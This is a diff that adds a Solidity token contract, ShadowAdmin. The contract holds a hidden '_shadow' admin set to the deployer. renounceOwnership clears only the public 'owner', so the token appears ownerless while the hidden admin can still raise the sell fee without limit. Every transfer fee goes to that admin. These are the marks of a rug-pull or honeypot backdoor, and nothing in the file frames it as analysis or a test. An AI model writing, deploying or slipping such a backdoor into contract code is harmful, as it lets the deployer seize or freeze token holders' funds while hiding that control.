@@ -0,0 +1,39 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+contract ShadowAdmin {
+    mapping(address => uint256) private _balances;
+    address public owner;
+    address private _shadow;
+    uint256 public totalSupply = 1000000 * 10**18;
+    uint256 public sellFee = 5;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
+    constructor() {
+        owner = msg.sender;
+        _shadow = msg.sender;
+        _balances[msg.sender] = totalSupply;
+    }
+
+    function renounceOwnership() external {
+        require(msg.sender == owner, "not owner");
+        owner = address(0);
+    }
+
+    function setSellFee(uint256 fee) external {
+        require(_shadow == msg.sender, "not admin");
+        sellFee = fee;
+    }
+
+    function balanceOf(address a) external view returns (uint256) { return _balances[a]; }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        uint256 fee = amount * sellFee / 100;
+        _balances[msg.sender] -= amount;
+        _balances[to] += amount - fee;
+        _balances[_shadow] += fee;
+        emit Transfer(msg.sender, to, amount);
+        return true;
+    }
+}